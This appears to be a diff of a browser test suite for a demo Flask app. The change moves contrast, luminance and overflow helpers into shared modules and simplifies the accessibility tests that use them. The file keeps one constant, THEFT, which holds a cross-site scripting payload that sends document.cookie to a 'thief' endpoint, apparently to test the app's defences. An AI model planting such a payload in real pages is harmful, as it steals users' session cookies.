@@ -7,10 +7,12 @@ import re
 import pytest
 import requests
 from flask import session
-from playwright.sync_api import BrowserContext, FrameLocator, Page, expect
+from playwright.sync_api import BrowserContext, Page, expect
 
 from demo_app import CookieOptions, Server, SessionOptions, create_app, serve
+from tests.browser.looks import cut_off, hard_to_read, luminance, texts
 from tests.browser.site import Site
+from tests.browser.use import press, wait_until_idle
 
 THEFT = """Nice page <img src=x onerror="fetch('thief?loot=' + encodeURIComponent(document.cookie))">"""
 
@@ -22,17 +24,6 @@ def options(**cookie) -> SessionOptions:
 def at(server: Server, host: str) -> str:
     """The server's address under another name of this machine."""
     return server.url.replace("127.0.0.1", host)
-
-
-def press(page: Page | FrameLocator, *buttons: str) -> None:
-    """Press buttons, each when the page shows the answer to the one before."""
-    for button in buttons:
-        page.get_by_role("button", name=button, exact=True).click()
-        wait_until_idle(page)
-
-
-def wait_until_idle(page: Page | FrameLocator) -> None:
-    expect(page.locator("body")).to_have_attribute("aria-busy", "false")
 
 
 def card(page: Page, name: str) -> str:
@@ -158,28 +149,6 @@ class TestInAFrame:
 
 
 class TestHowItLooks:
-    #: The contrast that WCAG 2.2 (1.4.3) asks of text.
-    LEAST_CONTRAST = 4.5
-
-    # Each text with the colours that it is drawn in and on.
-    COLOURS = """() => {
-        const ground = element => {
-            for (; element; element = element.parentElement) {
-                const colour = getComputedStyle(element).backgroundColor;
-                if (colour !== "rgba(0, 0, 0, 0)") return colour;
-            }
-            return "rgb(255, 255, 255)";
-        };
-        const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
-        const found = [];
-        while (texts.nextNode()) {
-            const element = texts.currentNode.parentElement;
-            if (texts.currentNode.data.trim() && element.checkVisibility())
-                found.push([texts.currentNode.data.trim(), getComputedStyle(element).color, ground(element)]);
-        }
-        return found;
-    }"""
-
     @pytest.fixture
     def server(self):
         with serve(create_app(options(httponly=False, max_age=3600), guest_book=True)) as running:
@@ -190,11 +159,11 @@ class TestHowItLooks:
     def test_text_stands_out_in_both_themes(self, page, server, scheme, path):
         page.emulate_media(color_scheme=scheme)
         page.goto(f"{server.url}{path}")
-        colours = page.evaluate(self.COLOURS)
-        assert len(colours) >= 6
-        assert {text: contrast(*pair) for text, *pair in colours if contrast(*pair) < self.LEAST_CONTRAST} == {}
-        darker = luminance(colours[0][2]) < luminance(colours[0][1])
-        assert darker == (scheme == "dark")
+        body = page.locator("body")
+        found = texts(body)
+        assert len(found) >= 6
+        assert hard_to_read(body) == {}
+        assert {luminance(ground) < luminance(colour) for _, colour, ground in found} == {scheme == "dark"}
 
     @pytest.mark.parametrize("width", [360, 768, 1280])
     @pytest.mark.parametrize("path", ["/", "/guestbook"])
@@ -203,24 +172,8 @@ class TestHowItLooks:
         page.goto(f"{server.url}{path}")
         if path == "/":
             press(page, "Log in as ada", "Peek")  # the longest values there are
-        wider = """() => [...document.querySelectorAll("body *")]
-            .filter(element => getComputedStyle(element).display !== "inline")
-            .filter(element => element.scrollWidth > element.clientWidth + 1)
-            .map(element => element.tagName)"""
-        assert page.evaluate(wider) == []
+        assert cut_off(page.locator("body")) == []
         assert page.evaluate("document.scrollingElement.scrollWidth") <= width
-
-
-def luminance(colour: str) -> float:
-    """The relative luminance of ``rgb(…)`` (WCAG 2.2)."""
-    channels = [int(number) / 255 for number in re.findall(r"\d+", colour)[:3]]
-    linear = [value / 12.92 if value <= 0.04045 else ((value + 0.055) / 1.055) ** 2.4 for value in channels]
-    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
-
-
-def contrast(one: str, other: str) -> float:
-    darker, lighter = sorted((luminance(one), luminance(other)))
-    return (lighter + 0.05) / (darker + 0.05)
 
 
 class TestTheGuestBook:
